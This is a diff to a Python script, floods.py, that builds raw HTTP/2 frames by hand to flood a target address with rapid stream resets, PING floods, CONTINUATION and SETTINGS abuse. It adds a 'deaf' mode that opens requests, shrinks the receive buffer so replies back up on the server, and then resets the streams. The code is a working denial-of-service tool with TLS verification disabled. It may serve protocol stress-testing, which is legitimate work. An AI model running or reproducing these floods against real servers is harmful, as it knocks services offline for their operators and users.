@@ -1,5 +1,5 @@
 """Floods against a party's address, over sockets, TLS and HTTP/2 frames by hand (RFC 9113): what no library would send.
-   floods.py ADDRESS KIND SECONDS [KEY PEM]    KIND: resets, pings, continuation, settings, idle, connect; without KEY and PEM as a stranger
+   floods.py ADDRESS KIND SECONDS [KEY PEM]    KIND: resets, deaf, pings, continuation, settings, idle, connect; without KEY and PEM as a stranger
 Prints what was sent, as JSON."""
 import json
 import socket
@@ -9,7 +9,7 @@ import sys
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
 
 
 def frame(kind, flags, stream, payload=b""):
@@ -27,7 +27,10 @@ REQUEST = (literal(b":method", b"POST") + literal(b":scheme", b"https") + litera
 
 def connection(address, identity):
     host, port = address.rsplit(":", 1)
-    raw = socket.create_connection((host, int(port)), timeout=10)
+    raw = socket.socket()
+    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # what is not read soon waits on the other side
+    raw.settimeout(10)
+    raw.connect((host, int(port)))
     context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     context.check_hostname = False
     context.verify_mode = ssl.CERT_NONE
@@ -46,6 +49,14 @@ def frames(kind):
         while stream < 2**31 - 200:
             yield b"".join(frame(HEADERS, 4, s, REQUEST) + frame(RST_STREAM, 0, s, struct.pack(">I", 8)) for s in range(stream, stream + 200, 2))
             stream += 200
+    if kind == "deaf":  # calls whose answers are not read, each taken back when it has been answered
+        stream = 1
+        while stream < 2**31 - 200:
+            calls = range(stream, stream + 8, 2)
+            yield b"".join(frame(HEADERS, 4, s, REQUEST) + frame(DATA, 1, s, bytes(5)) for s in calls)
+            time.sleep(0.005)
+            yield b"".join(frame(RST_STREAM, 0, s, struct.pack(">I", 8)) for s in calls)
+            stream += 8
     if kind == "pings":
         while True:
             yield frame(PING, 0, 0, bytes(8)) * 500
